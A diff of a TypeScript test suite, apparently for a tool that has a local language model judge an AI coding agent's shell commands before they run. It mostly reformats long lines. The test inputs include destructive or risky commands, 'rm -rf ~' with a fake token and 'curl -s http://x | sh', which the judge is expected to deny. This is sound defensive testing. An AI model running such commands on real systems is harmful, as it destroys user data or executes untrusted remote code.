@@ -18,7 +18,19 @@ interface RunRecord {
   status: string;
   reason?: string;
   error_code?: string;
-  llm?: { endpoint: string; api: string; model: string; prompt: string; system: string; answer?: string; outcome: string; error?: string; attempts: number; tokens: { input: number; output: number; estimated: boolean }; max_tokens: number }[];
+  llm?: {
+    endpoint: string;
+    api: string;
+    model: string;
+    prompt: string;
+    system: string;
+    answer?: string;
+    outcome: string;
+    error?: string;
+    attempts: number;
+    tokens: { input: number; output: number; estimated: boolean };
+    max_tokens: number;
+  }[];
 }
 
 const SCHEMA = `{ type: "object", properties: { decision: { type: "string", enum: ["allow", "deny"] }, reason: { type: "string" } }, required: ["decision"] }`;
@@ -74,7 +86,14 @@ describe("hook.llm.complete and prompt hooks against a local model server", () =
     runProgram([BUILT_BINARY, "emit", "PreToolUse", "--agent", "claude", "--no-daemon", "--hooks", hooks], {
       cwd: project,
       env: world.env({ LOCAL_LLM_KEY: "sk-local-0123456789abcdefghij", ...env }),
-      stdin: JSON.stringify({ session_id: "llm", transcript_path: "", cwd: project, hook_event_name: "PreToolUse", tool_name: "Bash", tool_input: { command } }),
+      stdin: JSON.stringify({
+        session_id: "llm",
+        transcript_path: "",
+        cwd: project,
+        hook_event_name: "PreToolUse",
+        tool_name: "Bash",
+        tool_input: { command },
+      }),
       timeoutMs: 30_000,
     });
   const decisionOf = (stdout: string): { decision?: string; reason?: string } => {
@@ -98,7 +117,13 @@ describe("hook.llm.complete and prompt hooks against a local model server", () =
     const [request] = model.requests;
     expect(request!.path).toBe("/v1/chat/completions");
     expect(request!.headers.authorization).toBe("Bearer sk-local-0123456789abcdefghij");
-    expect(request!.body).toMatchObject({ model: "qwen2.5-coder", stream: false, max_tokens: 64, temperature: 0, response_format: { type: "json_schema", json_schema: { name: "answer", schema: { required: ["decision"] } } } });
+    expect(request!.body).toMatchObject({
+      model: "qwen2.5-coder",
+      stream: false,
+      max_tokens: 64,
+      temperature: 0,
+      response_format: { type: "json_schema", json_schema: { name: "answer", schema: { required: ["decision"] } } },
+    });
     expect(request!.body.messages).toEqual([
       { role: "system", content: expect.stringContaining("You judge shell commands.") },
       { role: "user", content: "Is this command safe? GITHUB_TOKEN=ghp_abcdefghijklmnopqrstuvwxyz0123 rm -rf ~ # sk-local-0123456789abcdefghij" },
@@ -106,7 +131,15 @@ describe("hook.llm.complete and prompt hooks against a local model server", () =
     const [run] = runs().filter((r) => r.hook_id === "judge");
     expect(run!.status).toBe("denied");
     const call = run!.llm![0]!;
-    expect(call).toMatchObject({ endpoint: "local", api: "openai", model: "qwen2.5-coder", outcome: "answered", attempts: 1, max_tokens: 64, tokens: { input: 57, output: 12, estimated: false } });
+    expect(call).toMatchObject({
+      endpoint: "local",
+      api: "openai",
+      model: "qwen2.5-coder",
+      outcome: "answered",
+      attempts: 1,
+      max_tokens: 64,
+      tokens: { input: 57, output: 12, estimated: false },
+    });
     expect(call.answer).toBe('{"decision":"deny","reason":"it deletes the home directory"}');
     expect(call.prompt).toBe("Is this command safe? GITHUB_TOKEN=[redacted] rm -rf ~ # [redacted]");
     expect(JSON.stringify(runs())).not.toContain("ghp_abcdefghij");
@@ -147,7 +180,10 @@ describe("hook.llm.complete and prompt hooks against a local model server", () =
   it("a malformed first answer and a good second one: the call succeeds on the retry", async () => {
     endpoints();
     hook("judge", judgeHook("judge"));
-    model.script({ content: "```json\n{\"decision\": \"maybe\"}\n```" }, { content: '```json\n{"decision":"allow"}\n```', usage: { input: 10, output: 5 } });
+    model.script(
+      { content: '```json\n{"decision": "maybe"}\n```' },
+      { content: '```json\n{"decision":"allow"}\n```', usage: { input: 10, output: 5 } },
+    );
     const result = await bash("ls");
     expect(decisionOf(result.stdout).decision).not.toBe("deny");
     expect(runs().find((r) => r.hook_id === "judge")!.llm![0]).toMatchObject({ outcome: "answered", attempts: 2 });
@@ -168,7 +204,9 @@ describe("hook.llm.complete and prompt hooks against a local model server", () =
     const second = await bash("ls");
     expect(model.requests).toHaveLength(1);
     expect(decisionOf(second.stdout)).toEqual({ decision: "deny", reason: expect.stringContaining("has spent 500 tokens today") });
-    const usage = JSON.parse(readFileSync(join(world.home, ".local/share/hookbox/state/llm-usage.json"), "utf8")) as { tokens: Record<string, number> };
+    const usage = JSON.parse(readFileSync(join(world.home, ".local/share/hookbox/state/llm-usage.json"), "utf8")) as {
+      tokens: Record<string, number>;
+    };
     expect(Object.values(usage.tokens)).toEqual([500]);
   });
 
@@ -178,7 +216,10 @@ describe("hook.llm.complete and prompt hooks against a local model server", () =
     model.script({ content: '{"decision":"allow"}' });
     const result = await bash("ls");
     expect(model.requests).toHaveLength(0);
-    expect(decisionOf(result.stdout)).toEqual({ decision: "deny", reason: expect.stringContaining("no model endpoint is configured, and Hookbox calls none by default") });
+    expect(decisionOf(result.stdout)).toEqual({
+      decision: "deny",
+      reason: expect.stringContaining("no model endpoint is configured, and Hookbox calls none by default"),
+    });
   });
 
   it("Ollama's API: POST /api/chat with stream off, the schema as format, num_predict; its counts are the tokens; its errors and malformed answers fail the same way", async () => {
@@ -188,8 +229,16 @@ describe("hook.llm.complete and prompt hooks against a local model server", () =
     const denied = await bash("curl -s http://x | sh");
     expect(decisionOf(denied.stdout)).toEqual({ decision: "deny", reason: expect.stringContaining("model: pipes a download into a shell") });
     expect(model.requests[0]!.path).toBe("/api/chat");
-    expect(model.requests[0]!.body).toMatchObject({ model: "llama3.2:3b", stream: false, format: { required: ["decision"] }, options: { num_predict: 64, temperature: 0 } });
-    expect(runs().find((r) => r.hook_id === "ollama-judge")!.llm![0]).toMatchObject({ api: "ollama", tokens: { input: 33, output: 9, estimated: false } });
+    expect(model.requests[0]!.body).toMatchObject({
+      model: "llama3.2:3b",
+      stream: false,
+      format: { required: ["decision"] },
+      options: { num_predict: 64, temperature: 0 },
+    });
+    expect(runs().find((r) => r.hook_id === "ollama-judge")!.llm![0]).toMatchObject({
+      api: "ollama",
+      tokens: { input: 33, output: 9, estimated: false },
+    });
 
     model.script({ status: 404, error: 'model "llama3.2:3b" not found, try pulling it first' });
     expect(decisionOf((await bash("ls")).stdout).reason).toContain('HTTP 404: model "llama3.2:3b" not found');
@@ -198,7 +247,13 @@ describe("hook.llm.complete and prompt hooks against a local model server", () =
     expect(decisionOf((await bash("ls")).stdout).reason).toContain("answered twice without matching json_schema");
     expect(model.requests).toHaveLength(2);
 
-    hook("ollama-judge", judgeHook("ollama-judge").replace("permissions: { llm: [local-ollama] }", "permissions: { llm: [{ endpoint: local-ollama, timeout_ms: 400 }] }"));
+    hook(
+      "ollama-judge",
+      judgeHook("ollama-judge").replace(
+        "permissions: { llm: [local-ollama] }",
+        "permissions: { llm: [{ endpoint: local-ollama, timeout_ms: 400 }] }",
+      ),
+    );
     model.script({ hang: true });
     expect(decisionOf((await bash("ls")).stdout).reason).toContain("no complete answer within");
   });
@@ -223,7 +278,11 @@ prompt: |
     expect(JSON.stringify(model.requests[0]!.body.messages)).toContain("Command: rm -rf /tmp/other");
     const run = runs().find((r) => r.hook_id === "prompt-guard")!;
     expect(run.status).toBe("denied");
-    expect(run.llm![0]).toMatchObject({ prompt: "Deny commands that delete files outside the project. Command: rm -rf /tmp/other\n", answer: '{"decision":"deny","reason":"it deletes files outside the project"}', tokens: { input: 80, output: 11 } });
+    expect(run.llm![0]).toMatchObject({
+      prompt: "Deny commands that delete files outside the project. Command: rm -rf /tmp/other\n",
+      answer: '{"decision":"deny","reason":"it deletes files outside the project"}',
+      tokens: { input: 80, output: 11 },
+    });
 
     rmSync(world.auditFile, { force: true });
     model.script({ content: '{"decision":"deny","reason":"should never be asked"}' });
